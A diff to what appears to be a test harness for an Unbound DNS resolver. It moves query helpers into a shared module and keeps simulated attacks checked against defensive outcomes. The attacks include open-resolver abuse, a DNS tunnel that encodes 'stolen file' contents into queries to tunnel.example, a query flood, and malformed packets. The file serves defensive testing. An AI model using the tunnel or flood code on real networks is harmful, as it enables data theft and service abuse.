@@ -3,11 +3,10 @@ syslog. `log-queries`, `log-replies`, `log-local-actions` and `log-servfail` are
 its clients."""
 
 import base64
-import socket
 import ssl
 
-from runner import web
-from runner.network import ATTACKERS, ATTACKERS6, OFFICE, ROAD, SERVER, SERVER6
+from runner import dns, web
+from runner.network import ATTACKERS, ATTACKERS6, OFFICE, ROAD
 from runner.definition import Log, Service
 
 SERVICE = Service(
@@ -73,51 +72,26 @@ def start(machine):
     machine.daemon("unbound", "-d", port=8953)
 
 
-def dig(session, address, *question):
-    """One question; returns the answer as dig prints it."""
-    server = SERVER6 if ":" in address else SERVER
-    options = ["+time=2", "+tries=1", "+nocookie"]
-    return session.command(address, "dig", "-b", address, f"@{server}", *options, *question).stdout
-
-
-def packet(session, address, data, wait=0.3):
-    """Sends a datagram and returns the answer, or nothing."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
-        udp.bind((address, 0))
-        udp.settimeout(wait)
-        udp.sendto(data, (SERVER, 53))
-        try:
-            return udp.recv(4096)
-        except TimeoutError:
-            return b""
-
-
-def question(name, number=1):
-    """A question for an address as it is sent."""
-    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
-    return number.to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
-
-
 @SERVICE.benign
 def benign(session):
     """The office resolves names; one is blocked, one mistyped, one cannot be resolved; a laptop asks from the road; a
     monitor asks; reload and restart."""
     for address in OFFICE[:3]:
         for name in ("www.example.org", "files.example.org", "news.example", "shop.example", "mail.example", "cdn.shop.example"):
-            assert "NOERROR" in dig(session, address, name, "A")
-        assert "NOERROR" in dig(session, address, "news.example", "AAAA")
-    assert "NXDOMAIN" in dig(session, OFFICE[1], "ww.example.org", "A")
-    assert "NXDOMAIN" in dig(session, OFFICE[2], f"ads.{BLOCKED[2]}", "A")
-    assert "SERVFAIL" in dig(session, OFFICE[0], "www.down.example", "A")
-    assert "REFUSED" in dig(session, ROAD[2], "news.example", "A")
+            assert "NOERROR" in dns.dig(session, address, name, "A")
+        assert "NOERROR" in dns.dig(session, address, "news.example", "AAAA")
+    assert "NXDOMAIN" in dns.dig(session, OFFICE[1], "ww.example.org", "A")
+    assert "NXDOMAIN" in dns.dig(session, OFFICE[2], f"ads.{BLOCKED[2]}", "A")
+    assert "SERVFAIL" in dns.dig(session, OFFICE[0], "www.down.example", "A")
+    assert "REFUSED" in dns.dig(session, ROAD[2], "news.example", "A")
     for _ in range(3):
-        dig(session, OFFICE[9], "www.example.org", "A")
+        dns.dig(session, OFFICE[9], "www.example.org", "A")
         session.drop(OFFICE[9], 53, 1, read_banner=False)
     for command in ("status", "stats_noreset", "reload"):
         session.machine.run("unbound-control", command)
     session.machine.restart()
     for number in range(4):
-        assert "NOERROR" in dig(session, OFFICE[number % 3], f"site{number}.example", "A")
+        assert "NOERROR" in dns.dig(session, OFFICE[number % 3], f"site{number}.example", "A")
 
 
 @SERVICE.attack(RESOLVER)
@@ -125,7 +99,7 @@ def open_resolver(session):
     """One address elsewhere tries to use the server as an open resolver."""
     for number in range(14):
         words = ("isc.example", "ANY") if number % 2 else (f"victim{number}.example", "TXT")
-        assert "REFUSED" in dig(session, RESOLVER, *words)
+        assert "REFUSED" in dns.dig(session, RESOLVER, *words)
         session.acted(RESOLVER, "recursion denied")
 
 
@@ -133,7 +107,7 @@ def open_resolver(session):
 def open_resolver_over_ipv6(session):
     """One address of version 6 tries to use the server as an open resolver."""
     for number in range(12):
-        assert "REFUSED" in dig(session, RESOLVER6, f"victim{number}.example", "A")
+        assert "REFUSED" in dns.dig(session, RESOLVER6, f"victim{number}.example", "A")
         session.acted(RESOLVER6, "recursion denied")
 
 
@@ -141,7 +115,7 @@ def open_resolver_over_ipv6(session):
 def blocked_names(session):
     """A machine of the office asks for names that are blocked, again and again."""
     for number in range(15):
-        assert "NXDOMAIN" in dig(session, INFECTED, f"c{number}.{BLOCKED[number % 2]}", "A")
+        assert "NXDOMAIN" in dns.dig(session, INFECTED, f"c{number}.{BLOCKED[number % 2]}", "A")
         session.acted(INFECTED, "name blocked")
 
 
@@ -150,14 +124,14 @@ def tunnel(session):
     """A machine of the office sends data out in the names that it asks for."""
     for number in range(30):
         data = base64.b32encode(f"{number:03} contents of a stolen file, part by part".encode()).decode().rstrip("=").lower()
-        assert "NOERROR" in dig(session, TUNNEL, f"{data[:50]}.{data[50:]}.t.tunnel.example", "TXT")
+        assert "NOERROR" in dns.dig(session, TUNNEL, f"{data[:50]}.{data[50:]}.t.tunnel.example", "TXT")
         session.acted(TUNNEL, "data in a name")
 
 
 @SERVICE.attack(FLOODER)
 def flood(session):
     """A machine of the office asks more often than the limit allows."""
-    answers = [packet(session, FLOODER, question(f"r{number}.example", number), 0.01) for number in range(120)]
+    answers = [dns.packet(session, FLOODER, dns.question(f"r{number}.example", number), 0.01) for number in range(120)]
     session.acted(FLOODER, "rate limited", sum(not answer for answer in answers))
 
 
@@ -178,11 +152,4 @@ def control_channel(session):
         session.acted(CONTROLLER, "command channel denied")
 
 
-@SERVICE.attack(RAW)
-def malformed(session):
-    """One address sends what is no DNS."""
-    data = [b"GET / HTTP/1.0\r\n\r\n", b"\0\1\1\0\0\2\0\0\0\0\0\0", question("example.org")[:20],
-            b"\0\1\x78\0\0\1\0\0\0\0\0\0\0\0\1\0\1", b"\0\1\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", b"\xff" * 60]
-    for words in data * 2:
-        packet(session, RAW, words, 0.1)
-        session.acted(RAW, "malformed packet")
+dns.malformed(SERVICE, RAW)
